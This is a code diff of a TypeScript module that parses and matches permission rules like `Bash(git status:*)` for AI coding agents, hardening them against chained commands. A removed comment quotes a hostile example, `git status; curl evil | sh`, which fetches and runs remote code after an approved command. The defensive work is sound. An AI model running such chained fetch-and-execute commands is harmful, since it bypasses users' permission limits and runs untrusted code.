@@ -1,36 +1,67 @@
-// A permission rule as Claude Code and wave-agent users write them: a tool name (`Bash`, `click`), or a tool name
-// with a specifier: `Bash(npm test)` matches that exact command, `Bash(git status:*)` any command that starts with
-// `git status`.
+// A permission rule as Claude Code and wave-agent users write them: a tool name (`Bash`, `launch`, `close-app`),
+// or a tool name with a specifier: `Bash(npm test)` is exactly that command, `Bash(git status:*)` that command
+// followed by any arguments. Specifiers are compared word by word after quote removal, so `git  'status'` is
+// `git status` and `git statusx` is not. `launch(gnome-calculator)` / `launch(firefox:*)` are the same for an app
+// and its `--arg`s; `close-app(gedit)`, `clipboard-set(TEXT)` name their one argument.
+import { toolName } from "@agent-desktop/contracts/commands"
+import { parseShell } from "./shell/parseShell.js"
+import { programName } from "./shell/commandRunners.js"
+import type { Word } from "./shell/ShellScript.js"
 
 export interface PermissionRule {
+  /** As the user wrote it, for messages. */
+  readonly raw: string
+  /** The tool it names (`close-app` is the tool `close_app`). */
   readonly tool: string
-  readonly specifier?: { readonly text: string; readonly prefix: boolean }
+  readonly specifier?: {
+    readonly words: ReadonlyArray<string>
+    /** `:*`: the words are a prefix; otherwise the whole command. */
+    readonly prefix: boolean
+    /** Why the specifier is not one plain command (`Bash(a; b)`), if so: it then approves nothing and denies all. */
+    readonly invalid?: string
+  }
+}
+
+const specifierWords = (text: string): { words: ReadonlyArray<string>; invalid?: string } => {
+  const script = parseShell(text)
+  const [command, ...others] = script.commands
+  if (script.opaque !== undefined) return { words: [], invalid: script.opaque }
+  if (command === undefined || others.length > 0 || command.redirects.length > 0) {
+    return { words: [], invalid: "a rule names one command without operators or redirections" }
+  }
+  const words = [...command.assignments, ...command.words]
+  if (words.some((word) => !word.literal)) return { words: [], invalid: "a rule's words are literal text" }
+  return { words: words.map((word) => word.value) }
 }
 
 export const parseRule = (raw: string): PermissionRule => {
-  const open = raw.indexOf("(")
-  if (open <= 0 || !raw.endsWith(")")) return { tool: raw }
-  const inner = raw.slice(open + 1, -1)
+  const text = raw.trim()
+  const open = text.indexOf("(")
+  if (open <= 0 || !text.endsWith(")")) return { raw: text, tool: toolName(text) }
+  const inner = text.slice(open + 1, -1)
   const prefix = inner.endsWith(":*")
-  return { tool: raw.slice(0, open), specifier: { text: prefix ? inner.slice(0, -2) : inner, prefix } }
+  const { words, invalid } = specifierWords(prefix ? inner.slice(0, -2) : inner)
+  return {
+    raw: text,
+    tool: toolName(text.slice(0, open)),
+    specifier: { words, prefix, ...(invalid === undefined ? {} : { invalid }) }
+  }
 }
 
-/** The text a specifier is matched against: Bash's command line; other tools take no specifier. */
-const subjectOf = (tool: string, input: unknown): string | undefined => {
-  if (tool !== "Bash" || typeof input !== "object" || input === null) return undefined
-  const command = (input as { command?: unknown }).command
-  return typeof command === "string" ? command.trim() : undefined
-}
+const sameWords = (rule: ReadonlyArray<string>, words: ReadonlyArray<Word>, prefix: boolean, first: (a: string, b: string) => boolean) =>
+  rule.length > 0 &&
+  (prefix ? words.length >= rule.length : words.length === rule.length) &&
+  rule.every((word, index) => index === 0 ? first(word, words[0]!.value) : word === words[index]!.value)
 
-/** Shell operators that would let a prefix-approved command run something else after it. */
-const CHAINING = /[;&|`\n]|\$\(|>|</
+/** Whether an allow rule's specifier covers `words`, the command exactly as written. */
+export const specifierAllows = (rule: PermissionRule, words: ReadonlyArray<Word>): boolean =>
+  rule.specifier !== undefined && rule.specifier.invalid === undefined &&
+  sameWords(rule.specifier.words, words, rule.specifier.prefix, (a, b) => a === b)
 
-export const ruleMatches = (rule: PermissionRule, tool: string, input: unknown): boolean => {
-  if (rule.tool !== tool) return false
-  if (rule.specifier === undefined) return true
-  const subject = subjectOf(tool, input)
-  if (subject === undefined) return false
-  if (!rule.specifier.prefix) return subject === rule.specifier.text
-  // `Bash(git status:*)` must not approve `git status; curl evil | sh`.
-  return (subject === rule.specifier.text || subject.startsWith(`${rule.specifier.text} `)) && !CHAINING.test(subject)
-}
+/**
+ * Whether a deny rule's specifier covers `words`, one spelling of a command: its program is compared by name, so
+ * `Bash(touch:*)` also denies `/usr/bin/touch x`. An invalid specifier denies everything (it must not fail open).
+ */
+export const specifierDenies = (rule: PermissionRule, words: ReadonlyArray<Word>): boolean =>
+  rule.specifier === undefined || rule.specifier.invalid !== undefined ||
+  sameWords(rule.specifier.words, words, rule.specifier.prefix, (a, b) => a.includes("/") ? a === b : a === programName(b))
